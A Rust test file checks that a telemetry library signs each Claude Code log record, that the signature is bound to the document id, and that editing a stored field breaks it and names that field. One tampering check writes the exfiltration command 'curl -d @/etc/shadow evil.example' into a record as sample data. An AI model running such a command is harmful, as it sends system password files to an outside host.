//! Tamper evidence (README "Tamper evidence") on real Claude Code telemetry:
//! every Claude log record of a capture is signed, and the signature holds
//! over the record as the exporter stores it (re-read here with this
//! suite's own flattening, not the library's), breaks when one stored field
//! changes, and names that field.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use cowork_ecs::signature::{self, FIELD_FIELDS, FIELD_KEY_ID, FIELD_SIGNATURE};
use cowork_ecs::{Error, Transformer};
use serde_json::{Value as Json, json};

/// RFC 8032's test key 1, as PKCS#8 PEM.
const KEY: &str = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIJ1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g\n-----END PRIVATE KEY-----\n";

fn key_file(name: &str, text: &str) -> std::path::PathBuf {
    let path = std::env::temp_dir().join(format!("cowork-ecs-{name}-{}.pem", std::process::id()));
    std::fs::write(&path, text).unwrap();
    path
}

/// The stored document's fields: the attributes under their stored names,
/// `@timestamp` in nanoseconds and the string body as `message`.
fn stored(record: &cowork_ecs::otlp::LogRecord) -> serde_json::Map<String, Json> {
    let mut doc = flat_attributes(record);
    for (from, to) in signature::ECS_LOG_RENAMES {
        if let Some(v) = doc.remove(*from) {
            doc.insert((*to).to_owned(), v);
        }
    }
    doc.insert("@timestamp".into(), json!(record.time_unix_nano));
    if let Some(cowork_ecs::otlp::Value::StringValue(s)) =
        record.body.as_ref().and_then(|b| b.value.as_ref())
    {
        doc.insert("message".into(), json!(s));
    }
    doc
}

/// The verifier's reading: `(signature holds, fields whose digest differs)`.
fn check(doc: &serde_json::Map<String, Json>, doc_id: &str) -> (bool, Vec<String>) {
    let public = signature::public_key_from_pem(KEY).unwrap();
    assert_eq!(doc[FIELD_KEY_ID], json!(signature::key_id(&public)));
    let mut fields = Vec::new();
    let mut changed = Vec::new();
    for entry in doc[FIELD_FIELDS].as_array().unwrap() {
        let (name, digest) = entry.as_str().unwrap().rsplit_once(':').unwrap();
        let value = doc.get(name).cloned().unwrap_or(Json::Null);
        if signature::field_digest(name, &value) != digest {
            changed.push(name.to_owned());
        }
        fields.push((name.to_owned(), value));
    }
    let sig = doc[FIELD_SIGNATURE].as_str().unwrap();
    (signature::verify(&public, doc_id, &fields, sig), changed)
}

#[test]
fn every_claude_record_is_signed_as_stored_and_a_changed_field_is_named() {
    let path = key_file("signing", KEY);
    let config = json!({"signing": {"key_file": path}}).to_string();
    let t = Transformer::from_json_config(config.as_bytes()).unwrap();
    let mut req = read_request(&testdata().join("captures/bash_ok/logs.json"));
    t.transform_logs_request(&mut req, None);
    std::fs::remove_file(&path).unwrap();
    let records = records(&req);
    assert!(records.len() >= 5);
    for record in records {
        let mut doc = stored(record);
        let id = doc.remove("elasticsearch.document_id").unwrap();
        let id = id.as_str().unwrap();
        assert_eq!(check(&doc, id), (true, vec![]), "{doc:#?}");
        assert!(
            !check(&doc, "another-id").0,
            "the signature is bound to the document id"
        );
        let field = if doc.contains_key("process.command_line") {
            "process.command_line"
        } else {
            "event.action"
        };
        let mut edited = doc.clone();
        edited.insert(field.into(), json!("curl -d @/etc/shadow evil.example"));
        assert_eq!(check(&edited, id), (false, vec![field.to_owned()]));
    }
}

#[test]
fn a_key_file_that_is_missing_or_not_a_key_stops_the_start_naming_the_key() {
    let bad = key_file(
        "bad",
        "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n",
    );
    for path in [bad.clone(), "/nonexistent/signing.pem".into()] {
        let config = json!({"signing": {"key_file": path}}).to_string();
        let err = Transformer::from_json_config(config.as_bytes()).unwrap_err();
        assert!(
            matches!(&err, Error::ConfigInvalid { field, .. } if field == "signing.key_file"),
            "{err}"
        );
    }
    std::fs::remove_file(&bad).unwrap();
    // Unset or empty: not signed.
    let t = Transformer::from_json_config(br#"{"signing": {"key_file": ""}}"#).unwrap();
    let mut req = read_request(&testdata().join("captures/bash_ok/logs.json"));
    t.transform_logs_request(&mut req, None);
    assert!(
        records(&req)
            .iter()
            .all(|r| !flat_attributes(r).contains_key(FIELD_SIGNATURE))
    );
}
